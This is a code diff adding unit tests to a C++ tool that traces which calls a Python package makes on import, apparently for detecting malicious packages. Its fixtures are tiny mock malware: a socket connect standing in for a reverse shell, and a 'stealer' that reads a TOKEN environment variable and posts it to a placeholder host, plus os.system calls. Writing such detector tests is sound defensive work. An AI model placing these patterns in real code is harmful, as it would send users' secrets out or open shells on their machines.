@@ -116,6 +116,22 @@ class TestReach : public QObject {
         QCOMPARE(names(analyzeEntry(package, 0, "")), list("os.system"));
     }
 
+    void packageFolderThatIsNoIdentifierStillRunsItsModules() {
+        // `importlib.import_module("lab-3-pkg")` imports it, and its relative imports run (a real family does this:
+        // a reverse shell in main.py, imported by the __init__ of a hyphenated folder). A dotted folder name cannot
+        // be one module name, so it stays out.
+        const std::vector<File> package = {
+            {"lab-3-pkg/__init__.py", "from .main import shell\n"},
+            {"lab-3-pkg/main.py", "import socket\ndef shell():\n    pass\nsocket.socket().connect(('h', 1))\n"},
+            {"a.b/__init__.py", "from .c import x\n"},
+            {"a.b/c.py", "import os\nos.system('id')\n"},
+        };
+        QCOMPARE(names(analyzeEntry(package, 0, "")), list("socket.socket ?.connect"));
+        QCOMPARE(sourcesOfCalls(analyzeEntry(package, 0, "")),
+                 QStringList({"lab-3-pkg/main.py:0", "lab-3-pkg/main.py:0"}));
+        QCOMPARE(names(analyzeEntry(package, 2, "")), QStringList());
+    }
+
     void importCyclesEndAndEachModuleRunsOnce() {
         const std::vector<File> package = {
             {"pkg/__init__.py", "from . import a\nimport os\nos.getcwd()\n"},
@@ -340,6 +356,30 @@ class TestReach : public QObject {
                             "os.startfile('a.exe')\n"},
         };
         QCOMPARE(names(analyzeEntry(package, 0, "")), list("request.urlretrieve os.startfile"));
+    }
+
+    void dormantCodeIsWalkedOnlyWhenAsked() {
+        // A stealer that only defines its functions: nothing runs at import, so the import sequence is empty; with
+        // dormant code (--import-reach dormant) every function and method nothing called is walked, after what ran,
+        // in definition order (grab on its own, then again where send calls it; beat only inside run).
+        const std::vector<File> package = {
+            {"steal/__init__.py", "from .core import *\n"},
+            {"steal/core.py", "import os, requests\n"
+                              "def grab():\n    return os.getenv('TOKEN')\n"
+                              "def send():\n    requests.post('h', data=grab())\n"
+                              "class Spy:\n    def run(self):\n        self.beat()\n    def beat(self):\n"
+                              "        os.system('id')\n"
+                              "print('loaded')\n"},
+        };
+        std::vector<SourceFile> files;
+        for (const File &file : package)
+            files.push_back({file.path, file.text});
+        const PackageFiles parsed(files, "");
+        ScriptAnalyzer analyzer;
+        QCOMPARE(names(analyzer.analyze(parsed, 0)), list("print"));
+        const CallSequence dormant = analyzer.analyze(parsed, 0, true);
+        QCOMPARE(names(dormant), list("print os.getenv os.getenv requests.post os.system"));
+        QVERIFY(!dormant.truncated);
     }
 };
 
